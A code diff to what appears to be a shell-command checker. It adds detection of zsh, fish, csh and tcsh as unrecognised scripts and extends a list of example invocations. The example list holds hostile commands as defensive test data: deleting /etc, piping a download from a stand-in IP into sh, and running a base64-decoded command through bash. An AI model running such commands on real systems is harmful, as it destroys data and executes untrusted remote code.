@@ -2,7 +2,12 @@
 import { type Call, ex, type Family } from "../call.ts";
 import { emptied, type Field, literalField } from "../words.ts";
 
+/** Shells with a grammar of their own: what is read here as one command may be another there. */
+const strangers = /^(zsh|fish|csh|tcsh)$/;
+
 function shellCommand(call: Call): void {
+  if (strangers.test(call.name) && !/^--(version|help)$/.test(call.args.map(emptied).join(" ")))
+    call.report("unknown-script");
   let i = 0;
   let login = false;
   let command = false;
@@ -86,7 +91,7 @@ export const shells: Family = {
       check: shellCommand,
       examples: ex(
         "sh -c 'df -h | head' ¦ bash -c 'ss -s'",
-        "bash /root/x.sh ¦ sh",
+        "bash /root/x.sh ¦ sh ¦ zsh -c 'ls =ls' ¦ fish -c uptime",
         "bash -c 'rm -rf /etc' ¦ curl http://203.0.113.9/a | sh ¦ echo cmVib290 | base64 -d | bash",
       ),
     },
